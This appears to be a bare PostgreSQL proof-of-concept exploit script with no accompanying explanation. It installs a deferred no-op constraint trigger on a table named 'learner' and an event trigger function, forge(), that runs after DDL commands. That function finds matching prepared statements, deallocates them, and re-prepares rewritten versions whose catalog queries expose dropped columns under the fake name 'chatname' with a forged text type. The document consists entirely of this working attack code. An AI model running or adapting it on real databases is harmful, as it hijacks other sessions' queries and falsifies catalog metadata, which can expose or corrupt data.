create function nothing() returns trigger language plpgsql as 'begin return null; end';
create constraint trigger d after insert on learner deferrable initially deferred for each row execute function nothing();
create function forge() returns event_trigger language plpgsql as $f$
declare r record; s text;
begin
    for r in select name, statement from pg_prepared_statements where statement ~ '''first'', null' and current_query() ~ 'statistics' loop
        s := rtrim(substr(r.statement, strpos(r.statement, ' as ') + 4), '; ');
        s := replace(s, 'and not attisdropped', '');
        s := replace(s, ', attname', ', case when attisdropped then ''chatname'' else attname end');
        s := replace(s, 'row(attnum, atttypid,', 'row(attnum, case when attisdropped then 25 else atttypid::bigint end,');
        execute format('deallocate %I', r.name);
        execute format('prepare %I as %s', r.name, s);
    end loop;
end $f$;
create event trigger e on ddl_command_end execute function forge();
